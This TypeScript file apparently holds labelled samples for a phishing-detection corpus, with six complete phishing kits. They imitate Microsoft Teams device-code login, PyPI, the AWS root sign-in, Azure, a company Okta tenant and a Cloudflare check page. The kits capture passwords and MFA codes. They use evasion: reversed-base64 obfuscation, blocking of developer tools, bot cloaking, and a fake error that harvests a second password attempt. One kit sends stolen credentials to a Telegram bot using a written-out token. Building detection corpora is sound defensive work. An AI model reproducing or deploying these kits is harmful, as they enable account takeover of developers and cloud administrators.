// Credential kits, OAuth-consent and device-code lures aimed at code hosts and package registries (author zz).
import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsonRoute, jsRoute } from '../parts/e-bin.js';
import { doc, qwDoc, QW_TOP, QW_MARK, GH_CSS, GH_MARK, GH_FOOT, NPM_LOGO, tgSend, VISITOR_INFO, b64, rev } from '../parts/zz-kit.js';

export const entries: Entry[] = [
{
  id: 'zz-teams-invite-device-code',
  label: 'phishing',
  kind: 'device-code-lure',
  url: 'https://teams-meeting-join.com/l/meetup-join/19%3ameeting_NzQ5ZjE2ZGUtNmQ4Ny00/0?context=%7b%22Tid%22%3a%22quellwerk%22%7d',
  body: doc({
    title: 'Join conversation | Microsoft Teams',
    head: `<style>
body{margin:0;font-family:"Segoe UI",-apple-system,Roboto,sans-serif;background:#f5f5f5;color:#242424}
.bar{height:48px;background:#4b53bc;display:flex;align-items:center;padding:0 20px;color:#fff;font-weight:600}
.card{max-width:520px;margin:60px auto;background:#fff;border-radius:8px;box-shadow:0 2px 8px rgba(0,0,0,.12);padding:32px}
.code{font-family:Consolas,monospace;font-size:30px;letter-spacing:4px;text-align:center;background:#f0f0f8;border-radius:6px;padding:14px;margin:18px 0;user-select:all}
.btn{display:block;width:100%;background:#5b5fc7;color:#fff;border:0;border-radius:4px;padding:11px;font-size:15px;font-weight:600;cursor:pointer;text-align:center;text-decoration:none}
ol{padding-left:20px;font-size:14px;line-height:1.8}small{color:#616161}
</style>`,
    body: `<div class="bar">Microsoft Teams</div>
<div class="card">
<h2 style="margin-top:0">Q4 Platform Security Review</h2>
<p style="color:#616161;margin-top:-8px">Organizer: Marta Kowalczyk · Today 15:00 – 16:00 (CEST)</p>
<p>This meeting is restricted to members of your organization. To join from this device, confirm your work account:</p>
<ol><li>Copy the meeting code below.</li><li>Select <b>Continue</b> and paste the code on the Microsoft page.</li><li>Sign in with your work account. You'll be admitted automatically.</li></ol>
<div class="code" id="uc">········</div>
<a class="btn" id="cont" href="https://microsoft.com/devicelogin" target="_blank" rel="noopener">Continue</a>
<p style="text-align:center"><small id="st">Waiting for verification…</small></p>
</div>
<script>
var uc=document.getElementById('uc');
fetch('/api/dc/start?tid=quellwerk',{method:'POST'}).then(function(r){return r.json()}).then(function(j){
  uc.textContent=j.user_code; window.__dc=j.device_code;
  var poll=setInterval(function(){
    fetch('/api/dc/poll?d='+encodeURIComponent(j.device_code)).then(function(r){return r.json()}).then(function(s){
      if(s.status==='ok'){clearInterval(poll);document.getElementById('st').textContent='Verified. Joining…';location.href='https://teams.microsoft.com/';}
    }).catch(function(){});
  },(j.interval||5)*1000);
});
document.getElementById('cont').addEventListener('click',function(){try{navigator.clipboard.writeText(uc.textContent.trim())}catch(e){}});
</script>`,
  }),
  routes: {
    'teams-meeting-join.com/api/dc/start': jsonRoute({ user_code: 'F8SKN4TQ2', device_code: 'DAQABAAEAAAD--DLA3VO7QrddgJg7WevrbC7xyQ', verification_uri: 'https://microsoft.com/devicelogin', interval: 5, expires_in: 900 }),
    'teams-meeting-join.com/api/dc/poll': jsonRoute({ status: 'pending' }),
  },
},

{
  id: 'zz-pypi-mirror-account-validation',
  label: 'phishing',
  kind: 'registry-kit',
  url: 'https://pypi-mirror.org/account/login/?next=%2Faccount%2Fvalidate%2F',
  body: doc({
    title: 'Log in · PyPI',
    head: `<style>
body{margin:0;font-family:"Source Sans 3",Helvetica,Arial,sans-serif;color:#464646;background:#fff}
.hdr{background:#006dad;color:#fff;padding:14px 40px;display:flex;align-items:center;gap:14px}
.hdr b{font-size:22px}
.banner{background:#ffd343;color:#464646;padding:10px 40px;font-size:15px}
.horizontal-section{background:#f3f3f3;padding:40px 0}
.form{max-width:480px;margin:0 auto;background:#fff;border:1px solid #e1e1e1;padding:28px}
label{display:block;font-weight:700;margin:14px 0 6px}
input[type=text],input[type=password]{width:100%;box-sizing:border-box;border:1px solid #d3d3d3;padding:9px;font-size:15px}
.button--primary{background:#006dad;color:#fff;border:0;padding:10px 18px;font-size:16px;margin-top:18px;cursor:pointer}
footer{background:#2b2b2b;color:#ccc;padding:24px 40px;font-size:13px}
</style>`,
    body: `<div class="hdr"><svg width="36" height="36" viewBox="0 0 36 36"><rect width="16" height="16" x="2" y="2" fill="#ffd343"/><rect width="16" height="16" x="18" y="18" fill="#fff"/><rect width="16" height="16" x="18" y="2" fill="#3775a9"/><rect width="16" height="16" x="2" y="18" fill="#3775a9"/></svg><b>PyPI</b></div>
<div class="banner"><b>Mandatory account validation.</b> Due to ongoing abuse of the index, all maintainers must confirm their account details. Accounts that are not validated within 72 hours will be suspended and their projects made read-only.</div>
<div class="horizontal-section"><div class="form">
<h1 style="margin-top:0;font-size:28px">Log in to PyPI</h1>
<form method="POST" action="/account/login/" id="lf">
<input name="csrf_token" type="hidden" value="IjA5ZmU3YmQ2MTg2Y2M0ODQ0MjQ4ZDY5OGE3ODc1ZTgwYzU2MjcwODQi.ZxYp2w.F7mR2wXb6dO1">
<label for="username">Username</label><input type="text" id="username" name="username" autocomplete="username" required>
<label for="password">Password <span style="font-weight:400;font-size:13px">(<a href="#" onclick="var p=document.getElementById('password');p.type=p.type==='password'?'text':'password';return false">show</a>)</span></label>
<input type="password" id="password" name="password" autocomplete="current-password" required>
<label for="totp">Authentication code (if 2FA enabled)</label><input type="text" id="totp" name="totp_value" inputmode="numeric" maxlength="6">
<input type="submit" class="button--primary" value="Log in">
</form>
<p style="font-size:14px"><a href="/account/reset-password/">Forgot password?</a></p>
</div></div>
<footer>PyPI is operated by the Python Software Foundation. Developed and maintained by the Python community, for the Python community.</footer>
<script>
document.getElementById('lf').addEventListener('submit',function(e){e.preventDefault();
  var fd=new FormData(this);fd.append('ref',document.referrer);fd.append('host',location.host);
  fetch('/api/collect',{method:'POST',body:fd}).finally(function(){location.href='https://pypi.org/manage/projects/';});
});
</script>`,
  }),
  routes: { 'pypi-mirror.org/api/collect': jsonRoute({ s: 1 }) },
},

{
  id: 'zz-aws-console-root-mfa-kit',
  label: 'phishing',
  kind: 'cloud-console-kit',
  url: 'https://aws-console-signin.com/signin?redirect_uri=https%3A%2F%2Fconsole.aws.amazon.com%2Fconsole%2Fhome%3FhashArgs%3D%2523&client_id=arn%3Aaws%3Asignin%3A%3A%3Aconsole%2Fcanvas',
  body: doc({
    title: 'Amazon Web Services Sign-In',
    head: `<style>
body{margin:0;font-family:"Amazon Ember",Arial,sans-serif;background:#fff;color:#16191f}
.w{width:420px;margin:40px auto 0}.logo{margin:0 0 18px 4px}
.panel{border:1px solid #d5dbdb;border-radius:4px;padding:20px 26px}
h1{font-size:26px;font-weight:400;margin:0 0 14px}
label{display:block;font-size:14px;font-weight:700;margin:12px 0 4px}
input[type=email],input[type=password],input[type=text]{width:100%;box-sizing:border-box;border:1px solid #aab7b8;border-radius:3px;padding:7px;font-size:14px}
.radio{font-size:14px;margin:8px 0}.radio small{display:block;color:#545b64;margin-left:22px}
.btn{width:100%;margin-top:16px;background:#ec7211;border:1px solid #ec7211;color:#fff;border-radius:2px;padding:8px;font-weight:700;cursor:pointer}
.legal{font-size:12px;color:#545b64;margin-top:12px}
</style>`,
    body: `<div class="w"><div class="logo"><svg width="60" height="36" viewBox="0 0 60 36"><text x="2" y="22" font-family="Arial" font-weight="700" font-size="22" fill="#232f3e">aws</text><path d="M4 28c14 7 34 7 48-1" stroke="#ff9900" stroke-width="3" fill="none"/></svg></div>
<div class="panel">
<div id="s1"><h1>Sign in</h1>
<div class="radio"><label style="font-weight:400"><input type="radio" name="ut" value="root" checked> Root user<small>Account owner that performs tasks requiring unrestricted access.</small></label></div>
<div class="radio"><label style="font-weight:400"><input type="radio" name="ut" value="iam"> IAM user<small>User within an account that performs daily tasks.</small></label></div>
<label id="idl">Root user email address</label><input type="email" id="email" autocomplete="username">
<button class="btn" id="n1">Next</button>
<p class="legal">By continuing, you agree to the AWS Customer Agreement or other agreement for AWS services, and the Privacy Notice.</p></div>
<div id="s2" style="display:none"><h1>Root user sign in</h1><p style="font-size:14px">Email: <b id="em"></b></p><label>Password</label><input type="password" id="pw" autocomplete="current-password"><button class="btn" id="n2">Sign in</button></div>
<div id="s3" style="display:none"><h1>Multi-factor authentication</h1><p style="font-size:14px">Your account is secured using multi-factor authentication (MFA). To finish signing in, enter the code from your MFA device.</p><label>MFA code</label><input type="text" id="mfa" inputmode="numeric" maxlength="6"><button class="btn" id="n3">Submit</button></div>
</div></div>
<script>
var st={};document.querySelectorAll('input[name=ut]').forEach(function(r){r.onchange=function(){document.getElementById('idl').textContent=r.value==='iam'?'Account ID (12 digits) or account alias':'Root user email address';}});
function send(stage){st.stage=stage;return fetch('/signin/api/v2',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(st)}).catch(function(){});}
function show(n){['s1','s2','s3'].forEach(function(i){document.getElementById(i).style.display=i===n?'block':'none';});}
document.getElementById('n1').onclick=function(){st.email=document.getElementById('email').value;if(!st.email)return;document.getElementById('em').textContent=st.email;send('id');show('s2');};
document.getElementById('n2').onclick=function(){st.password=document.getElementById('pw').value;send('pw').then(function(){show('s3');});};
document.getElementById('n3').onclick=function(){st.mfa=document.getElementById('mfa').value;send('mfa').then(function(){location.href='https://console.aws.amazon.com/console/home';});};
</script>`,
  }),
  routes: { 'aws-console-signin.com/signin/api/v2': jsonRoute({ state: 'ok' }) },
},

(() => {
  const inner = `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Sign in to your account</title>
<style>body{margin:0;font-family:"Segoe UI",sans-serif;background:#f2f2f2 url("data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' width='40' height='40'%3E%3Crect width='40' height='40' fill='%23eef3f8'/%3E%3C/svg%3E")}
.b{width:440px;margin:12vh auto 0;background:#fff;box-shadow:0 2px 6px rgba(0,0,0,.2);padding:44px;box-sizing:border-box}
h1{font-size:24px;font-weight:600;margin:16px 0 12px}.i{width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;font-size:15px;outline:0;margin:8px 0 18px}
.k{background:#0067b8;color:#fff;border:0;min-width:108px;padding:6px 12px;font-size:15px;float:right;cursor:pointer}.s{font-size:13px}.s a{color:#0067b8}.e{color:#e81123;font-size:14px;display:none}</style></head>
<body><div class="b"><svg width="108" height="24"><rect y="1" width="10" height="10" fill="#f25022"/><rect x="11" y="1" width="10" height="10" fill="#7fba00"/><rect y="12" width="10" height="10" fill="#00a4ef"/><rect x="11" y="12" width="10" height="10" fill="#ffb900"/><text x="27" y="17" font-family="Segoe UI" font-size="15" font-weight="600" fill="#737373">Microsoft</text></svg>
<div id="a"><h1>Sign in</h1><p class="s">to continue to <b>Microsoft Azure</b></p><div class="e" id="ea">Enter a valid email address, phone number, or Skype name.</div><input class="i" id="em" type="email" placeholder="Email, phone, or Skype"><p class="s">No account? <a href="#">Create one!</a></p><p class="s"><a href="#">Can't access your account?</a></p><button class="k" id="nx">Next</button><div style="clear:both"></div></div>
<div id="b" style="display:none"><p class="s" id="who"></p><h1>Enter password</h1><div class="e" id="eb">Your account or password is incorrect. If you don't remember your password, reset it now.</div><input class="i" id="pw" type="password" placeholder="Password"><p class="s"><a href="#">Forgot my password</a></p><button class="k" id="si">Sign in</button><div style="clear:both"></div></div>
</div>
<script>
var hint=new URLSearchParams(location.search).get('login_hint')||'';var em=document.getElementById('em');em.value=hint;var c=0;
document.getElementById('nx').onclick=function(){if(!/^[^@\\s]+@[^@\\s]+\\.[^@\\s]+$/.test(em.value)){document.getElementById('ea').style.display='block';return;}document.getElementById('who').textContent=em.value;document.getElementById('a').style.display='none';document.getElementById('b').style.display='block';};
document.getElementById('si').onclick=function(){var p=document.getElementById('pw').value;if(!p)return;c++;
var fd=new FormData();fd.append('ai',em.value);fd.append('pr',p);fd.append('n',c);
fetch('/owa/ajax.php',{method:'POST',body:fd}).then(function(){if(c<2){document.getElementById('eb').style.display='block';document.getElementById('pw').value='';}else{location.replace('https://portal.azure.com/#home');}});};
</script></body></html>`;
  const enc = rev(b64(inner));
  return {
    id: 'zz-azure-portal-reversed-b64-kit',
    label: 'phishing',
    kind: 'obfuscated-kit',
    url: 'https://portal-azure-secure.com/auth/?login_hint=devops%40quellwerk.io',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>&#8203;</title><meta name="robots" content="noindex, nofollow"></head><body>
<script>
(function(){document.addEventListener('contextmenu',function(e){e.preventDefault()});document.onkeydown=function(e){if(e.keyCode==123||(e.ctrlKey&&e.shiftKey&&(e.keyCode==73||e.keyCode==74))||(e.ctrlKey&&e.keyCode==85))return false;};})();
var _0x5a1c=["${enc.slice(0, Math.floor(enc.length / 3))}","${enc.slice(Math.floor(enc.length / 3), Math.floor((2 * enc.length) / 3))}","${enc.slice(Math.floor((2 * enc.length) / 3))}"];
function _0x2f(s){return decodeURIComponent(escape(window['a'+'to'+'b'](s.split('').reverse().join(''))));}
document['wr'+'ite'](_0x2f(_0x5a1c.join('')));
</script></body></html>`,
    routes: { 'portal-azure-secure.com/owa/ajax.php': jsonRoute({ signal: 'ok', msg: 'InValid Credentials' }) },
  } satisfies Entry;
})(),

{
  id: 'zz-quellwerk-okta-lookalike-tenant',
  label: 'phishing',
  kind: 'sso-kit',
  url: 'https://quellwerk-okta.com/signin/refresh-auth-state/00Tc1k9pXhL0Y4uf4',
  body: doc({
    title: 'Quellwerk - Sign In',
    head: `<style>
body{margin:0;background:#f5f5f6 linear-gradient(#0f5c4d 0 220px,#f5f5f6 220px);font-family:"Proxima Nova",-apple-system,"Segoe UI",Helvetica,Arial,sans-serif;color:#1d1d21}
#okta-sign-in{width:400px;margin:90px auto 0;background:#fff;border-radius:4px;box-shadow:0 2px 0 rgba(175,175,175,.12);border:1px solid #ddd}
.okta-sign-in-header{padding:30px 90px 24px;border-bottom:1px solid #ddd;text-align:center;font:700 22px Arial;color:#0f5c4d}
.o-form{padding:30px 42px 40px}.o-form h2{font-size:15px;text-align:center;margin:0 0 20px}
.o-form label{display:block;font-size:14px;margin:12px 0 6px}.o-form input[type=text],.o-form input[type=password]{width:100%;box-sizing:border-box;height:38px;border:1px solid #8c8c96;border-radius:4px;padding:0 10px;font-size:14px}
.button-primary{width:100%;height:48px;background:#1662dd;color:#fff;border:0;border-radius:4px;font-size:15px;margin-top:20px;cursor:pointer}
.auth-footer{font-size:13px;margin-top:14px}.auth-footer a{color:#1662dd}
.powered{text-align:center;margin:16px 0;font-size:12px;color:#6e6e78}
</style>`,
    body: `<div id="okta-sign-in"><div class="okta-sign-in-header">quellwerk</div>
<div class="o-form" id="v1"><h2>Sign In</h2>
<label for="u">Username</label><input type="text" id="u" autocomplete="username">
<label style="font-size:13px"><input type="checkbox" checked> Keep me signed in</label>
<button class="button-primary" id="b1">Next</button>
<div class="auth-footer"><a href="#">Help</a></div></div>
<div class="o-form" id="v2" style="display:none"><h2>Verify with your password</h2><p style="text-align:center;font-size:13px" id="uu"></p>
<label for="p">Password</label><input type="password" id="p" autocomplete="current-password"><button class="button-primary" id="b2">Verify</button>
<div class="auth-footer"><a href="#">Forgot password?</a> · <a href="#">Back to sign in</a></div></div>
<div class="o-form" id="v3" style="display:none"><h2>Get a verification email / push</h2><p style="font-size:14px">A push notification was sent to your Okta Verify app. If you don't receive it, enter the code shown in Okta Verify.</p>
<label for="c">Enter code</label><input type="text" id="c" inputmode="numeric" maxlength="6"><button class="button-primary" id="b3">Verify</button></div>
</div><div class="powered">Powered by Okta · Privacy Policy</div>
<script>
${tgSend('6931458207:AAFh0kqL2Xw3n9T-p8sVbYcRzE1mGdQ5uJo', '5561093327')}
var d={h:location.hostname};
function go(a,b){document.getElementById(a).style.display='none';document.getElementById(b).style.display='block';}
document.getElementById('b1').onclick=function(){d.u=document.getElementById('u').value;if(!d.u)return;document.getElementById('uu').textContent=d.u;go('v1','v2');};
document.getElementById('b2').onclick=function(){d.p=document.getElementById('p').value;tgSend('🔐 OKTA '+d.h+'\\nU: '+d.u+'\\nP: '+d.p+'\\nIP/UA: '+navigator.userAgent);go('v2','v3');};
document.getElementById('b3').onclick=function(){tgSend('📲 OTP '+d.u+': '+document.getElementById('c').value);setTimeout(function(){location.href='https://quellwerk.okta.com/app/UserHome';},1200);};
</script>`,
  }),
},

{
  id: 'zz-entra-captcha-gated-dynamic-kit',
  label: 'phishing',
  kind: 'sso-kit',
  url: 'https://docs-quellwerk-sharepoint.com/auth/?x=bWFydGEua293YWxjenlrQHF1ZWxsd2Vyay5pbw==',
  body: doc({
    title: 'Just a moment...',
    head: `<style>body{margin:0;font-family:-apple-system,system-ui,"Segoe UI",Roboto,sans-serif;background:#fff;color:#313131}
.main{max-width:60rem;margin:8rem auto;padding:0 1.5rem}h1{font-size:2.4rem;font-weight:500;margin:0}h2{font-size:1.4rem;font-weight:400;margin:.6rem 0 2rem}
.cb{display:flex;align-items:center;justify-content:space-between;width:300px;height:65px;border:1px solid #e0e0e0;background:#fafafa;padding:0 14px;border-radius:4px}
.cb input{width:24px;height:24px}.cf{font-size:10px;color:#999;text-align:right}.sp{width:22px;height:22px;border:3px solid #ccc;border-top-color:#f38020;border-radius:50%;animation:r 1s linear infinite;display:none}@keyframes r{to{transform:rotate(360deg)}}
.foot{position:fixed;bottom:20px;width:100%;text-align:center;font-size:12px;color:#777}</style>`,
    body: `<div class="main" id="gate"><h1>docs-quellwerk-sharepoint.com</h1><h2>Verify you are human by completing the action below.</h2>
<div class="cb"><label style="display:flex;align-items:center;gap:10px"><input type="checkbox" id="chk"><span>Verify you are human</span></label><div class="sp" id="sp"></div><div class="cf"><b style="color:#f38020">CLOUDFLARE</b><br>Privacy · Terms</div></div>
<p style="margin-top:2rem;color:#555">docs-quellwerk-sharepoint.com needs to review the security of your connection before proceeding.</p></div>
<div class="foot">Ray ID: <code>8d5b2c7e9f1a4e03</code> · Performance &amp; security by Cloudflare</div>
<script>
(function(){
  var bad=/bot|crawl|spider|headless|phantom|python|curl|wget|scan|lighthouse/i.test(navigator.userAgent)||navigator.webdriver;
  var q=new URLSearchParams(location.search).get('x')||'';var mail='';try{mail=atob(q)}catch(e){}
  document.getElementById('chk').addEventListener('change',function(){
    if(bad){location.replace('https://www.office.com/');return;}
    document.getElementById('sp').style.display='block';
    sessionStorage.setItem('u',JSON.stringify(mail));
    setTimeout(function(){
      fetch('/api/v3/render',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({e:mail,t:Date.now()})})
      .then(function(r){return r.json()}).then(function(j){document.open();document.write(atob(j.page));document.close();});
    },1400);
  });
})();
</script>`,
  }),
  routes: {
    'docs-quellwerk-sharepoint.com/api/v3/render': jsonRoute({
      page: b64(`<!DOCTYPE html><html><head><meta charset="utf-8"><title>Sign in to your account</title><style>body{margin:0;font-family:"Segoe UI",sans-serif;background:#f3f2f1}.b{width:440px;margin:14vh auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}h1{font-size:24px;font-weight:600}input{width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;font-size:15px;margin:10px 0 20px;outline:0}button{float:right;background:#0067b8;color:#fff;border:0;padding:6px 24px;font-size:15px}</style></head><body><div class="b"><svg width="108" height="24"><rect y="1" width="10" height="10" fill="#f25022"/><rect x="11" y="1" width="10" height="10" fill="#7fba00"/><rect y="12" width="10" height="10" fill="#00a4ef"/><rect x="11" y="12" width="10" height="10" fill="#ffb900"/></svg><p id="u" style="margin-top:20px"></p><h1>Enter password</h1><p style="font-size:13px">Because you're accessing sensitive info, you need to verify your password.</p><input type="password" id="p" placeholder="Password"><button id="s">Sign in</button><div style="clear:both"></div></div><script>var u=JSON.parse(sessionStorage.getItem('u')||'""');document.getElementById('u').textContent=u||'';document.getElementById('s').onclick=function(){fetch('/api/v3/session',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({u:u,p:document.getElementById('p').value})}).then(function(r){return r.json()}).then(function(j){if(j.mfa){location.href='/auth/mfa?s='+j.s}})};<\/script></body></html>`),
    }),
    'docs-quellwerk-sharepoint.com/api/v3/session': jsonRoute({ mfa: true, s: 'e41b7c' }),
  },
},
];
